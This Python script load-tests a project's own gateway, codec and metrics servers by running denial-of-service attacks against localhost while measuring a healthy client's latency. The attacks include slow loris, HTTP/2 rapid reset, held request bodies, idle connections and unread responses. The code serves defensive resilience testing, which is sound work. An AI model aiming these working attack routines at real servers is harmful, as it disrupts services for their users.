"""Attacks servers of one's own, and measures what a healthy client feels.

    python3 docs/attacks.py GATEWAY_URL [--codec-server URL] [--metrics URL] [ATTACK ...]

Runs the attacks that docs/security-tests.md lists (those that are named, or
all for whose server there is an address), each for SECONDS (15) from
127.0.0.1. Meanwhile a healthy client at 127.0.0.2 uses the server that is
attacked, each request over a connection of its own: it reads an order and
places orders; it decodes and encodes as an operator; it scrapes. It does the
same right before each attack, so that every row of the table that is printed
compares a time without the attack to one with it.

The servers must be on this machine (Linux: every address of 127.0.0.0/8 is
its own). Where customers need keys, the healthy client's is taken from
PIZZA_KEY, and another one, with which the attacker signs in to open page
streams, from PIZZA_ATTACKERS_KEY; the operator's is in PIZZA_OPERATOR_KEY.
The exit code is 1 when the healthy client was turned away in an attack.
Attackers never have more than COUNT connections or requests at once, end with
their time, and stop with this program. Standard library alone.
"""

import argparse
import base64
import http.client
import json
import multiprocessing
import os
import resource
import selectors
import socket
import struct
import sys
import time
import urllib.parse

HEALTHY, ATTACKER = "127.0.0.2", "127.0.0.1"
JSON, FORM = "application/json", "application/x-www-form-urlencoded"
SECONDS = float(os.environ.get("SECONDS", "15"))
# The healthy client stays below the gateway's default limits for one client.
READS_PER_SECOND, WRITES_PER_SECOND = 20, 3
# How many connections an attacker opens before it looks at the others, and how
# long that takes at least, in seconds: 1,000 a second are no flood.
AT_ONCE, ROUND = 50, 0.05
# An answer that is not read is cut after 10 s, and that is seen within two more.
SECONDS_FOR_UNREAD = 12
# The servers wait for at least five seconds for what a client has to say: a
# connection that ends sooner without an answer was not taken at all.
REFUSED_WITHIN = 3
KEY = os.environ.get("PIZZA_KEY", "")
ATTACKERS_KEY = os.environ.get("PIZZA_ATTACKERS_KEY", "")
OPERATOR_KEY = os.environ.get("PIZZA_OPERATOR_KEY", "")
# How long each step of a watched order takes, where that can be asked for.
WATCHED_STEP_SECONDS = 60
# As the kernel says it of a connection.
ESTABLISHED = 1


# The healthy clients. Each is what it reads and what it writes, as functions
# that say status, seconds and body, and the status of a good answer to either.


def ask(host, method, path, body=None, key=KEY):
    """Status, seconds and body of a request over a connection of its own; the
    status is 0 when there was no answer."""
    headers = {"authorization": "Bearer " + key} if key else {}
    if body is not None:
        headers["content-type"] = JSON
        body = json.dumps(body)
    began = time.monotonic()
    connection = http.client.HTTPConnection(
        host[0], host[1], timeout=30, source_address=(HEALTHY, 0)
    )
    try:
        connection.request(method, path, body, headers)
        answer = connection.getresponse()
        said = answer.read()
        return answer.status, time.monotonic() - began, said
    except (OSError, http.client.HTTPException) as error:
        return 0, time.monotonic() - began, repr(error).encode()
    finally:
        connection.close()


def answered(answer, expected):
    status, _, said = answer
    if status != expected:
        sys.exit(f"the healthy client is not served: {status} {said.decode(errors='replace')}")
    return json.loads(said)


def place(host, wish=None):
    return ask(host, "POST", "/orders", wish or {})


def placed(host, wish=None):
    return answered(place(host, wish), 201)["orderId"]


def watched_orders(host):
    """Eight orders that take long, where the gateway simulates that."""
    slow = {"perStepDelaySeconds": WATCHED_STEP_SECONDS}
    wish = slow if place(host, slow)[0] == 201 else None
    return [placed(host, wish) for _ in range(8)]


def customer(host):
    """Reads an order, and places others."""
    path = "/orders/" + placed(host)
    return (lambda: ask(host, "GET", path), 200), (lambda: place(host), 201)


def operator(host):
    """Decodes a payload, and encodes it."""
    text = lambda value: base64.b64encode(value).decode()
    payload = {"metadata": {"encoding": text(b"json/plain")}, "data": text(b'"ann"' * 1000)}
    code = lambda path, body: ask(host, "POST", path, body, OPERATOR_KEY)
    plain = {"payloads": [payload]}
    encoded = answered(code("/encode", plain), 200)
    return (lambda: code("/decode", encoded), 200), (lambda: code("/encode", plain), 200)


def collector(host):
    """Scrapes."""
    return (lambda: ask(host, "GET", "/metrics"), 200), None


def healthy(read, write):
    """What a healthy client feels for a while: the seconds of what it reads
    and writes, and the answers that turned it away."""
    reads, writes, refused = [], [], []
    began = time.monotonic()
    read_due = write_due = began
    while time.monotonic() - began < SECONDS:
        if write and time.monotonic() >= write_due:
            write_due += 1 / WRITES_PER_SECOND
            note(write[0](), write[1], writes, refused)
        note(read[0](), read[1], reads, refused)
        read_due += 1 / READS_PER_SECOND
        time.sleep(max(0.0, read_due - time.monotonic()))
    return reads, writes, refused


def note(answer, expected, times, refused):
    status, seconds, said = answer
    if status == expected:
        times.append(seconds)
    else:
        refused.append((status, said.decode(errors="replace")))


def quantile(times, part):
    ordered = sorted(times)
    return ordered[min(len(ordered) - 1, int(part * len(ordered)))] * 1000 if ordered else 0.0


# The attackers: each is given the server, a deadline and a tally of what became
# of its connections, and which answers came.


class Connection:
    def __init__(self, host, small):
        self.socket = socket.socket()
        if small:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            # To learn of an end that nothing is said of.
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
            self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPIDLE, 1)
            self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPINTVL, 1)
        self.socket.settimeout(5)
        self.socket.bind((ATTACKER, 0))
        self.socket.connect(host)
        self.socket.setblocking(False)
        self.opened = time.monotonic()
        # Whether its first answer was no refusal; None before that.
        self.is_served = None
        self.unsent = b""
        self.next_stream = 1


class Tally:
    """A connection was *refused* if it ended soon and without an answer, or its
    answer was that there is no room; it was *cut* if it ended otherwise."""

    def __init__(self):
        self.opened, self.open, self.refused, self.cut, self.answers = 0, 0, 0, 0, {}

    def heard(self, connection, data):
        statuses = [line[:3].decode(errors="replace") for line in data.split(b"HTTP/1.1 ")[1:]]
        for status in statuses:
            self.answers[status] = self.answers.get(status, 0) + 1
        if data and connection.is_served is None:
            # What has no status is HTTP/2.
            connection.is_served = statuses[:1] not in (["429"], ["503"])

    def ended(self, connection):
        is_late = time.monotonic() - connection.opened > REFUSED_WITHIN
        if connection.is_served or connection.is_served is None and is_late:
            self.cut += 1
        else:
            self.refused += 1

    def __str__(self):
        answers = ", ".join(f"{count} x {status}" for status, count in sorted(self.answers.items()))
        ended = f"{self.refused} refused, {self.cut} cut, {self.open} open at the end"
        return f"{self.opened} opened: {ended}; {answers or 'no answers'}"


class Crowd:
    """Connections that are open."""

    def __init__(self, host, tally, small=False):
        self.host, self.tally, self.small = host, tally, small
        self.clients = selectors.DefaultSelector()

    def open(self, count, hello):
        """Opens more until there are `count`, and lets each say `hello`."""
        for _ in range(min(AT_ONCE, count - len(self.all()))):
            try:
                connection = Connection(self.host, self.small)
            except OSError:
                break
            self.tally.opened += 1
            self.clients.register(connection.socket, selectors.EVENT_READ, connection)
            self.say(connection, hello)

    def all(self):
        return [key.data for key in self.clients.get_map().values()]

    def hear(self):
        for key, _ in self.clients.select(0):
            if not self.read(key.data):
                self.leave(key.data)

    def read(self, connection):
        """Whether the connection is still there."""
        try:
            data = connection.socket.recv(65536)
        except BlockingIOError:
            return True
        except OSError:
            return False
        self.tally.heard(connection, data)
        return bool(data)

    def say(self, connection, words):
        """Sends that, or what is left of what was to be sent before."""
        connection.unsent = connection.unsent or words
        try:
            state = connection.socket.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)
            if state[0] != ESTABLISHED:
                raise ConnectionError
            sent = connection.socket.send(connection.unsent)
            connection.unsent = connection.unsent[sent:]
        except BlockingIOError:
            pass
        except OSError:
            # What came before it ended can still be read.
            self.read(connection)
            self.leave(connection)

    def leave(self, connection):
        self.tally.ended(connection)
        self.clients.unregister(connection.socket)
        connection.socket.close()

    def close(self):
        self.tally.open = len(self.all())
        for connection in self.all():
            connection.socket.close()


def crowd(host, deadline, tally, count, hello, every=b"", reads=True, small=False):
    """Keeps `count` connections open that each say `hello`, and opens others
    for those that are ended. With `every`, each says that once a second, too.
    Without `reads`, nothing is read."""
    clients = Crowd(host, tally, small)
    spoken = time.monotonic()
    while time.monotonic() < deadline:
        clients.open(count, hello)
        time.sleep(ROUND)
        if reads:
            clients.hear()
        if (every or not reads) and time.monotonic() - spoken > 1:
            spoken = time.monotonic()
            for connection in clients.all():
                clients.say(connection, every)
    clients.close()


def request(method, path, *headers):
    return "\r\n".join([f"{method} {path} HTTP/1.1", "host: localhost", *headers, "", ""]).encode()


def held(count, path, content_type):
    """Requests whose body never comes."""
    hello = request("POST", path, "content-type: " + content_type, "content-length: 9")
    return lambda host, deadline, tally, _: crowd(host, deadline, tally, count, hello)


def idle(count, path):
    """Connections that asked once."""
    hello = request("GET", path)
    return lambda host, deadline, tally, _: crowd(host, deadline, tally, count, hello)


def unread(count, path, times=1):
    """Connections that ask once or a few times and read nothing."""
    hello = request("GET", path) * times
    return lambda host, deadline, tally, _: crowd(
        host, deadline, tally, count, hello, reads=False, small=True
    )


def page_streams(host, deadline, tally, orders):
    cookie = "cookie: " + session(host) if ATTACKERS_KEY else "accept: */*"
    stream = request("GET", "/shop/scenarios/live?orders=" + ".".join(orders), cookie)
    crowd(host, deadline, tally, 512, stream)


def session(host):
    """The cookie of a session of the attacker's."""
    form = urllib.parse.urlencode({"key": ATTACKERS_KEY})
    headers = {"content-type": FORM}
    connection = http.client.HTTPConnection(host[0], host[1], source_address=(ATTACKER, 0))
    connection.request("POST", "/sign-in", form, headers)
    return (connection.getresponse().getheader("set-cookie") or "").split(";")[0]


def slow_loris(host, deadline, tally, _):
    crowd(host, deadline, tally, 1000, b"GET /menu HTTP/1.1\r\na: ", every=b"b")


# HTTP/2, as far as the attacks need it.

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_STREAM_AND_HEADERS = 5
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def get(stream, path):
    """A GET; of its header, HPACK's static table has all but the path and the
    authority."""
    text = lambda value: bytes([len(value)]) + value.encode()
    block = b"\x82\x86\x04" + text(path) + b"\x01" + text("localhost")
    return frame(HEADERS, END_STREAM_AND_HEADERS, stream, block)


def opening(window):
    initial_window = struct.pack(">HI", 4, window)
    return PREFACE + frame(SETTINGS, 0, 0, initial_window)


def unread_http2(host, deadline, tally, _):
    asked = [get(2 * number + 1, "/openapi.json") for number in range(100)]
    crowd(host, deadline, tally, 10, opening(0) + b"".join(asked))


def rapid_reset(host, deadline, tally, _):
    clients = Crowd(host, tally)
    cancel = struct.pack(">I", CANCEL)
    while time.monotonic() < deadline:
        clients.open(10, opening(65535))
        for connection in clients.all():
            first = connection.next_stream
            streams = range(first, first + 200, 2)
            storm = [get(it, "/menu") + frame(RST_STREAM, 0, it, cancel) for it in streams]
            connection.next_stream = first if connection.unsent else first + 200
            clients.say(connection, b"".join(storm))
        clients.hear()
        time.sleep(0.02)
    clients.close()


GATEWAY, CODEC_SERVER, METRICS = "the gateway", "the codec server", "the metrics"
HEALTHY_CLIENTS = {GATEWAY: customer, CODEC_SERVER: operator, METRICS: collector}
STREAMS = "512 streams of one session, each of the same eight orders"
RESETS = "10 connections that each open and cancel 100 streams, 50 times a second"
# What is attacked, in words how, and how.
ATTACKS = {
    "held-bodies": (GATEWAY, "300 requests without their body", held(300, "/orders", JSON)),
    "idle-connections": (GATEWAY, "4,000 connections that asked once", idle(4000, "/menu")),
    "page-streams": (GATEWAY, STREAMS, page_streams),
    "unread-http1": (GATEWAY, "1,000 connections that read nothing", unread(1000, "/openapi.json")),
    "unread-http2": (GATEWAY, "1,000 streams with a window of 0, 10 connections", unread_http2),
    "slow-loris": (GATEWAY, "1,000 headers, of which a byte comes each second", slow_loris),
    "rapid-reset": (GATEWAY, RESETS, rapid_reset),
    "codec-held": (CODEC_SERVER, "100 requests without their body", held(100, "/decode", JSON)),
    "codec-idle": (CODEC_SERVER, "200 connections that asked once", idle(200, "/decode")),
    "codec-unread": (CODEC_SERVER, "100 connections that read nothing", unread(100, "/decode", 20)),
    "metrics-idle": (METRICS, "40 connections that asked once", idle(40, "/healthz")),
    "metrics-unread": (METRICS, "40 connections that read nothing", unread(40, "/metrics")),
}


# The table.


def attack(name, host, deadline, orders, said):
    tally = Tally()
    try:
        ATTACKS[name][2](host, deadline, tally, orders)
    finally:
        said.put(str(tally))


def row(name, servers):
    """Runs an attack and prints its row; whether the client was served."""
    server, what, _ = ATTACKS[name]
    host = servers[server]
    read, write = HEALTHY_CLIENTS[server](host)
    orders = watched_orders(host) if name == "page-streams" else []
    before = healthy(read, write)
    said = multiprocessing.Queue()
    deadline = time.monotonic() + SECONDS + 1
    told = (name, host, deadline, orders, said)
    attacker = multiprocessing.Process(target=attack, args=told, daemon=True)
    attacker.start()
    time.sleep(1)
    during = healthy(read, write)
    outcome = said.get(timeout=60)
    attacker.join(60)
    cells = [name, what, outcome]
    for without, under in zip(before[:2], during[:2]):
        for part in (0.5, 0.99):
            pair = f"{quantile(without, part):.1f} / {quantile(under, part):.1f}"
            cells.append(pair if without or under else "-")
    served = sum(map(len, during[:2]))
    cells.append(f"{len(during[2])} of {served + len(during[2])}")
    print("| " + " | ".join(cells) + " |", flush=True)
    for status, detail in during[2][:3]:
        print(f"turned away: {status} {detail}", file=sys.stderr)
    # The kernel and the server forget what was left open.
    time.sleep(2)
    return not during[2]


def local(url):
    parts = urllib.parse.urlsplit(url)
    host = parts.hostname or ""
    if parts.scheme != "http" or not (host == "localhost" or host.startswith("127.")):
        raise argparse.ArgumentTypeError("is not of this machine, as http://127.0.0.1:8080 is")
    return "127.0.0.1" if host == "localhost" else host, parts.port or 80


def chosen(names, servers):
    """The attacks that are run, if they can be."""
    for name in names:
        if name not in ATTACKS:
            sys.exit(f"no attack is called {name}; there are {', '.join(ATTACKS)}")
        if not servers[ATTACKS[name][0]]:
            sys.exit(f"{name} needs the address of {ATTACKS[name][0]}")
    names = names or [name for name, (server, *_) in ATTACKS.items() if servers[server]]
    for name in names:
        if "unread" in name and SECONDS < SECONDS_FOR_UNREAD:
            sys.exit(f"{name} proves nothing in {SECONDS:g} s: an unread answer is cut after 10 s, "
                     f"so SECONDS must be {SECONDS_FOR_UNREAD} at least")
    return names


def main():
    form = argparse.RawDescriptionHelpFormatter
    options = argparse.ArgumentParser(description=__doc__, formatter_class=form)
    options.add_argument("gateway", metavar="GATEWAY_URL", type=local)
    options.add_argument("attacks", metavar="ATTACK", nargs="*")
    options.add_argument("--codec-server", metavar="URL", type=local)
    options.add_argument("--metrics", metavar="URL", type=local)
    given = options.parse_intermixed_args()
    servers = {GATEWAY: given.gateway, CODEC_SERVER: given.codec_server, METRICS: given.metrics}
    names = chosen(given.attacks, servers)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(max(soft, 5000), hard), hard))
    titles = "attack", "what is done", "what became of it", "read p50, ms", "read p99"
    print("| " + " | ".join([*titles, "write p50", "write p99", "turned away"]) + " |")
    print("|---" * 8 + "|", flush=True)
    results = [row(name, servers) for name in names]
    sys.exit(0 if all(results) else 1)


if __name__ == "__main__":
    main()
